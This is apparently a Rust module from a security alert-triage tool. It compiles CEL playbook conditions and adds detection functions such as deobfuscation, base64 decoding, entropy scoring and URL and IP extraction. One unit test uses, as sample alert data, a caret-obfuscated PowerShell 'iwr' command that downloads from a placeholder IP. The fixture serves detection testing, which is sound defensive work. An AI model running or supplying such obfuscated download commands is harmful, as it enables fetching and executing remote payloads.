//! The condition language: CEL, compiled once per playbook, with Riposte's detection functions.
//!
//! CEL is side-effect free and always terminates; we add pure functions over strings (decoding,
//! indicator extraction, CIDR and domain sets, cached regexes). Expressions see these variables:
//! `alert` (the ECS alert), `facts` (checks so far), `lookups` (lookup results so far), `vars`
//! (playbook variables, overridable by configuration), `escalation` (once decided), `actions`
//! (earlier action results), `item` (inside `for_each`) and `run` (`id`, `dry_run`).

use crate::funcs;
use cel::objects::{Key, Map};
use cel::{Context, ExecutionError, Value};
use serde_json::Value as Json;
use std::collections::HashMap;
use std::sync::{Arc, LazyLock};

/// The variables an expression may name.
pub const VARIABLES: &[&str] = &[
    "alert",
    "facts",
    "lookups",
    "vars",
    "escalation",
    "actions",
    "item",
    "run",
];

/// A compiled expression and its source.
#[derive(Clone)]
pub struct Expr {
    pub src: String,
    program: Arc<cel::Program>,
}

impl std::fmt::Debug for Expr {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "Expr({:?})", self.src)
    }
}

/// A compile error with the char offset inside the expression where it was found.
#[derive(Debug)]
pub struct CompileError {
    pub offset: usize,
    pub message: String,
}

static ENV: LazyLock<Arc<cel::Env>> = LazyLock::new(|| {
    let mut env = cel::Env::stdlib();
    env.add_extension(cel::extensions::strings)
        .expect("strings extension");
    env.add_extension(cel::extensions::lists)
        .expect("lists extension");
    Arc::new(env)
});

/// The root context holding every function; evaluation scopes borrow it.
pub struct Functions {
    root: Context<'static, 'static>,
}

fn strs(v: &Value) -> Vec<String> {
    match v {
        Value::List(l) => l
            .iter()
            .filter_map(|x| match x {
                Value::String(s) => Some(s.to_string()),
                _ => None,
            })
            .collect(),
        Value::String(s) => vec![s.to_string()],
        _ => Vec::new(),
    }
}

fn list(v: Vec<String>) -> Value {
    Value::List(Arc::new(
        v.into_iter().map(|s| Value::String(Arc::new(s))).collect(),
    ))
}

fn s(v: impl Into<String>) -> Value {
    Value::String(Arc::new(v.into()))
}

fn re_err(name: &str, e: String) -> ExecutionError {
    ExecutionError::function_error(name, format!("invalid regex: {e}"))
}

/// Follows a dotted path through maps; missing keys give `None`.
fn get_path<'a>(mut v: &'a Value, path: &str) -> Option<&'a Value> {
    for part in path.split('.') {
        match v {
            Value::Map(m) => v = m.map.get(&Key::String(Arc::new(part.to_owned())))?,
            _ => return None,
        }
    }
    Some(v)
}

/// Truthiness used by `truthy()` and by reports: false, null, "", [], {} and 0 are false.
pub fn truthy(v: &Value) -> bool {
    match v {
        Value::Bool(b) => *b,
        Value::Null => false,
        Value::String(s) => !s.is_empty(),
        Value::List(l) => !l.is_empty(),
        Value::Map(m) => !m.map.is_empty(),
        Value::Int(i) => *i != 0,
        Value::UInt(i) => *i != 0,
        Value::Float(f) => *f != 0.0,
        _ => true,
    }
}

impl Functions {
    fn new() -> Self {
        let mut c = Context::with_env(ENV.clone());
        macro_rules! add {
            ($name:expr, $f:expr) => {
                c.add_function($name, $f)
                    .expect(concat!("function ", $name));
            };
        }
        // Strings and paths
        add!("lower", |x: Arc<String>| s(x.to_lowercase()));
        add!("basename", |x: Arc<String>| s(funcs::basename(&x)));
        add!("dirname", |x: Arc<String>| s(funcs::dirname(&x)));
        add!("contains_any", |x: Arc<String>, l: Value| {
            funcs::contains_any(&x, &strs(&l))
        });
        add!("ends_with_any", |x: Arc<String>, l: Value| {
            let x = x.to_lowercase();
            strs(&l).iter().any(|e| x.ends_with(&e.to_lowercase()))
        });
        add!("starts_with_any", |x: Arc<String>, l: Value| {
            let x = x.to_lowercase();
            strs(&l).iter().any(|e| x.starts_with(&e.to_lowercase()))
        });
        add!("in_list", |x: Arc<String>, l: Value| {
            let x = x.to_lowercase();
            strs(&l).iter().any(|e| e.to_lowercase() == x)
        });
        add!("split_args", |x: Arc<String>| list(funcs::split_args(&x)));
        // Regexes, compiled once per thread and pattern
        add!("regex", |x: Arc<String>,
                       p: Arc<String>|
         -> Result<Value, ExecutionError> {
            funcs::with_regex(&p, |r| Value::Bool(r.is_match(&x))).map_err(|e| re_err("regex", e))
        });
        add!("regex_find", |x: Arc<String>,
                            p: Arc<String>|
         -> Result<Value, ExecutionError> {
            funcs::with_regex(&p, |r| {
                let m = r.captures(&x).map(|c| {
                    c.get(1)
                        .or_else(|| c.get(0))
                        .map(|m| m.as_str().to_owned())
                        .unwrap_or_default()
                });
                s(m.unwrap_or_default())
            })
            .map_err(|e| re_err("regex_find", e))
        });
        add!("regex_all", |x: Arc<String>,
                           p: Arc<String>|
         -> Result<Value, ExecutionError> {
            funcs::with_regex(&p, |r| {
                let mut out: Vec<String> = Vec::new();
                for c in r.captures_iter(&x).take(256) {
                    let m = c
                        .get(1)
                        .or_else(|| c.get(0))
                        .map(|m| m.as_str().to_owned())
                        .unwrap_or_default();
                    if !out.contains(&m) {
                        out.push(m);
                    }
                }
                list(out)
            })
            .map_err(|e| re_err("regex_all", e))
        });
        // Decoding and obfuscation
        add!("decoded", |x: Arc<String>| s(funcs::decoded(&x)));
        add!("deobfuscate", |x: Arc<String>| s(funcs::deobfuscate(&x)));
        add!("strip_comments", |x: Arc<String>| s(funcs::strip_comments(
            &x
        )));
        add!("b64decode", |x: Arc<String>| {
            s(funcs::b64_bytes(&x)
                .and_then(|b| funcs::bytes_to_text(&b))
                .unwrap_or_default())
        });
        add!("entropy", |x: Arc<String>| Value::Float(funcs::entropy(&x)));
        add!("obfuscation_ratio", |x: Arc<String>| Value::Float(
            funcs::obfuscation_ratio(&x)
        ));
        // Indicators
        add!("urls", |x: Arc<String>| list(funcs::urls(&x)));
        add!("ips", |x: Arc<String>| list(funcs::ips(&x)));
        add!("url_host", |x: Arc<String>| s(
            funcs::url_host(&x).unwrap_or_default()
        ));
        add!("is_ip", |x: Arc<String>| funcs::is_ip(&x));
        add!("is_public_ip", |x: Arc<String>| funcs::is_public_ip(&x));
        add!("ip_in", |x: Arc<String>, l: Value| funcs::ip_in(
            &x,
            &strs(&l)
        ));
        add!("domain_in", |x: Arc<String>, l: Value| funcs::domain_in(
            &x,
            &strs(&l)
        ));
        // Structure
        add!("get", |m: Value, path: Arc<String>, default: Value| {
            get_path(&m, &path).cloned().unwrap_or(default)
        });
        add!("truthy", |v: Value| truthy(&v));
        add!("uniq", |v: Value| {
            let mut out: Vec<Value> = Vec::new();
            if let Value::List(l) = v {
                for x in l.iter() {
                    if !out.contains(x) {
                        out.push(x.clone());
                    }
                }
            }
            Value::List(Arc::new(out))
        });
        add!("flatten_strings", |v: Value| {
            fn walk(v: &Value, out: &mut Vec<String>) {
                match v {
                    Value::String(s) => out.push(s.to_string()),
                    Value::List(l) => l.iter().for_each(|x| walk(x, out)),
                    _ => {}
                }
            }
            let mut out = Vec::new();
            walk(&v, &mut out);
            list(out)
        });
        Functions { root: c }
    }

    /// Names of the functions we add (for validation hints and docs).
    pub fn names() -> &'static [&'static str] {
        &[
            "lower",
            "basename",
            "dirname",
            "contains_any",
            "ends_with_any",
            "starts_with_any",
            "in_list",
            "split_args",
            "regex",
            "regex_find",
            "regex_all",
            "decoded",
            "deobfuscate",
            "strip_comments",
            "b64decode",
            "entropy",
            "obfuscation_ratio",
            "urls",
            "ips",
            "url_host",
            "is_ip",
            "is_public_ip",
            "ip_in",
            "domain_in",
            "get",
            "truthy",
            "uniq",
            "flatten_strings",
        ]
    }
}

static FUNCTIONS: LazyLock<Functions> = LazyLock::new(Functions::new);

/// Variables bound for evaluations. Each value is converted to CEL's internal form once, when it
/// is set, and lent to every evaluation through a resolver (no per-evaluation deep copy).
#[derive(Default)]
pub struct Scope {
    vars: Vec<(&'static str, Box<dyn cel::common::value::Val>)>,
}

impl Clone for Scope {
    fn clone(&self) -> Self {
        Scope {
            vars: self.vars.iter().map(|(n, v)| (*n, v.clone())).collect(),
        }
    }
}

impl Scope {
    pub fn set(&mut self, name: &'static str, v: Value) {
        let b: Box<dyn cel::common::value::Val> =
            match Box::<dyn cel::common::value::Val>::try_from(v) {
                Ok(b) => b,
                Err(_) => Box::<dyn cel::common::value::Val>::try_from(Value::Null)
                    .expect("null converts"),
            };
        if let Some(slot) = self.vars.iter_mut().find(|(n, _)| *n == name) {
            slot.1 = b;
        } else {
            self.vars.push((name, b));
        }
    }
}

impl cel::context::VariableResolver for Scope {
    fn resolve<'b>(&'b self, variable: &str) -> Option<cel::common::value::CowVal<'b, 'b>> {
        self.vars
            .iter()
            .find(|(n, _)| *n == variable)
            .map(|(_, v)| cel::common::value::CowVal::Borrowed(v.as_ref()))
    }
}

impl Expr {
    pub fn compile(src: &str) -> Result<Expr, CompileError> {
        match ENV.compile(src) {
            Ok(p) => Ok(Expr {
                src: src.to_owned(),
                program: Arc::new(p),
            }),
            Err(e) => {
                let first = e.errors.first();
                let offset = first
                    .map(|x| line_col_to_offset(src, x.pos.0, x.pos.1))
                    .unwrap_or(0);
                let message = first
                    .map(|x| x.msg.clone())
                    .unwrap_or_else(|| e.to_string());
                Err(CompileError { offset, message })
            }
        }
    }

    /// Top-level variables this expression names.
    pub fn variables(&self) -> Vec<String> {
        self.program
            .references()
            .variables()
            .into_iter()
            .map(|s| s.to_string())
            .collect()
    }

    /// Functions this expression calls.
    pub fn functions(&self) -> Vec<String> {
        self.program
            .references()
            .functions()
            .into_iter()
            .map(|s| s.to_string())
            .collect()
    }

    pub fn eval(&self, scope: &Scope) -> Result<Value, String> {
        let mut ctx = FUNCTIONS.root.new_inner_scope();
        ctx.set_variable_resolver(scope);
        self.program.execute(&ctx).map_err(|e| e.to_string())
    }

    /// Evaluates a condition: anything but `true` is false; errors are returned for the report.
    pub fn eval_bool(&self, scope: &Scope) -> Result<bool, String> {
        match self.eval(scope)? {
            Value::Bool(b) => Ok(b),
            other => Err(format!(
                "condition must be true or false, got {}",
                type_name(&other)
            )),
        }
    }
}

/// CEL parse positions are (1-based line, 0-based column); we want a char offset.
fn line_col_to_offset(src: &str, line: isize, col: isize) -> usize {
    let mut off = 0usize;
    for (i, l) in src.split('\n').enumerate() {
        if i as isize + 1 == line {
            return off + (col.max(0) as usize).min(l.chars().count());
        }
        off += l.chars().count() + 1;
    }
    0
}

pub fn type_name(v: &Value) -> &'static str {
    match v {
        Value::List(_) => "a list",
        Value::Map(_) => "a map",
        Value::Int(_) | Value::UInt(_) => "an integer",
        Value::Float(_) => "a number",
        Value::String(_) => "a string",
        Value::Bytes(_) => "bytes",
        Value::Bool(_) => "a boolean",
        Value::Null => "null",
        _ => "a value",
    }
}

/// JSON to CEL.
pub fn from_json(j: &Json) -> Value {
    match j {
        Json::Null => Value::Null,
        Json::Bool(b) => Value::Bool(*b),
        Json::Number(n) => {
            if let Some(i) = n.as_i64() {
                Value::Int(i)
            } else if let Some(u) = n.as_u64() {
                Value::UInt(u)
            } else {
                Value::Float(n.as_f64().unwrap_or(0.0))
            }
        }
        Json::String(s) => Value::String(Arc::new(s.clone())),
        Json::Array(a) => Value::List(Arc::new(a.iter().map(from_json).collect())),
        Json::Object(o) => Value::Map(Map {
            map: Arc::new(
                o.iter()
                    .map(|(k, v)| (Key::String(Arc::new(k.clone())), from_json(v)))
                    .collect(),
            ),
        }),
    }
}

/// CEL to JSON (map keys become strings; bytes become lossy text).
pub fn to_json(v: &Value) -> Json {
    match v {
        Value::Null => Json::Null,
        Value::Bool(b) => Json::Bool(*b),
        Value::Int(i) => Json::from(*i),
        Value::UInt(u) => Json::from(*u),
        Value::Float(f) => serde_json::Number::from_f64(*f)
            .map(Json::Number)
            .unwrap_or(Json::Null),
        Value::String(s) => Json::String(s.to_string()),
        Value::Bytes(b) => Json::String(String::from_utf8_lossy(b).into_owned()),
        Value::List(l) => Json::Array(l.iter().map(to_json).collect()),
        Value::Map(m) => {
            let mut entries: Vec<(String, Json)> = m
                .map
                .iter()
                .map(|(k, v)| {
                    let k = match k {
                        Key::String(s) => s.to_string(),
                        Key::Int(i) => i.to_string(),
                        Key::Uint(u) => u.to_string(),
                        Key::Bool(b) => b.to_string(),
                    };
                    (k, to_json(v))
                })
                .collect();
            entries.sort_by(|a, b| a.0.cmp(&b.0));
            Json::Object(entries.into_iter().collect())
        }
        _ => Json::String(format!("{v:?}")),
    }
}

/// A map value from named entries (used for `facts`, `lookups`, `actions`).
pub fn map_value(m: &Arc<HashMap<Key, Value>>) -> Value {
    Value::Map(Map { map: m.clone() })
}

/// A reference to `facts.x`, `lookups.x`, `actions.x` or `vars.x` found in source text, with its
/// char offset — string literals are skipped.
#[derive(Debug, PartialEq, Eq)]
pub struct Reference {
    pub root: String,
    pub name: String,
    pub offset: usize,
}

/// Scans source for `root.name` references (roots: facts, lookups, actions, vars), skipping
/// quoted strings. Works for CEL expressions and handlebars templates alike.
pub fn scan_references(src: &str, skip_strings: bool) -> Vec<Reference> {
    let chars: Vec<char> = src.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    let ident = |c: char| c.is_ascii_alphanumeric() || c == '_';
    while i < chars.len() {
        let c = chars[i];
        if skip_strings && (c == '"' || c == '\'') {
            // skip a string literal (with backslash escapes)
            let q = c;
            i += 1;
            while i < chars.len() && chars[i] != q {
                if chars[i] == '\\' {
                    i += 1;
                }
                i += 1;
            }
            i += 1;
            continue;
        }
        if ident(c) && (i == 0 || !(ident(chars[i - 1]) || chars[i - 1] == '.')) {
            let start = i;
            while i < chars.len() && ident(chars[i]) {
                i += 1;
            }
            let word: String = chars[start..i].iter().collect();
            if matches!(word.as_str(), "facts" | "lookups" | "actions" | "vars")
                && i < chars.len()
                && chars[i] == '.'
            {
                let ns = i + 1;
                let mut j = ns;
                while j < chars.len() && ident(chars[j]) {
                    j += 1;
                }
                if j > ns {
                    out.push(Reference {
                        root: word,
                        name: chars[ns..j].iter().collect(),
                        offset: ns,
                    });
                }
                i = j;
            }
            continue;
        }
        i += 1;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn eval(src: &str, alert: Json) -> Value {
        let e = Expr::compile(src).unwrap();
        let mut s = Scope::default();
        s.set("alert", from_json(&alert));
        e.eval(&s).unwrap()
    }

    #[test]
    fn functions_work_in_cel() {
        let a = serde_json::json!({"process": {"command_line": "cmd /c p^o^w^e^r^s^h^e^l^l iwr http://203.0.113.5/x", "name": "CMD.EXE"}});
        assert_eq!(
            eval(
                "deobfuscate(alert.process.command_line).contains('powershell')",
                a.clone()
            ),
            Value::Bool(true)
        );
        assert_eq!(
            eval("urls(alert.process.command_line)", a.clone()),
            list(vec!["http://203.0.113.5/x".into()])
        );
        assert_eq!(
            eval("lower(alert.process.name) == 'cmd.exe'", a.clone()),
            Value::Bool(true)
        );
        assert_eq!(
            eval("get(alert, 'process.parent.name', 'none')", a.clone()),
            s("none")
        );
        assert_eq!(
            eval(
                "regex(alert.process.command_line, '(?i)IWR\\\\s+http')",
                a.clone()
            ),
            Value::Bool(true)
        );
        assert_eq!(
            eval(
                "ips(alert.process.command_line).filter(i, is_public_ip(i))",
                a
            ),
            list(vec![])
        );
    }

    #[test]
    fn compile_errors_have_offsets() {
        let e = Expr::compile("alert.x == ").unwrap_err();
        assert!(!e.message.is_empty());
    }

    #[test]
    fn scans_references_outside_strings() {
        let r = scan_references("facts.a && 'facts.b' == lookups.c_d.x || vars.z", true);
        let names: Vec<_> = r
            .iter()
            .map(|r| format!("{}.{}@{}", r.root, r.name, r.offset))
            .collect();
        assert_eq!(names, vec!["facts.a@6", "lookups.c_d@32", "vars.z@46"]);
    }
}
